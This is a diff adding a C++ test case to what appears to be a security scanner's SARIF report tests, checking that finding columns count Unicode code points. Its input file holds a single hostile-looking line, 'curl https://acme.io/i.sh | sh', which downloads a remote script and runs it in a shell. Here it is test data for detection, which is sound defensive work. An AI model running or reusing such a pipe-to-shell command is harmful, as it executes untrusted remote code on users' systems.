@@ -72,6 +72,15 @@ TEST_CASE("report: SARIF has what its schema requires") {
   }
 }
 
+TEST_CASE("report: columns count characters, as SARIF is told") {
+  const InputFile file{"run.sh", "echo \"Grüße, 世界\"; curl https://acme.io/i.sh | sh\n"};
+  const ScanReport report = scan({&file, 1}).value();
+  const auto log = json::parse(to_sarif(report, "1"));
+  const json::Value& run = log->find("runs")->if_array()->front();
+  CHECK(*run.find("columnKind")->if_string() == "unicodeCodePoints");
+  CHECK(report.findings.front().location == Location{"run.sh", 1, 19});
+}
+
 TEST_CASE("report: two writings are one text") {
   const ScanReport report = some_report();
   CHECK(to_json(report) == to_json(some_report()));
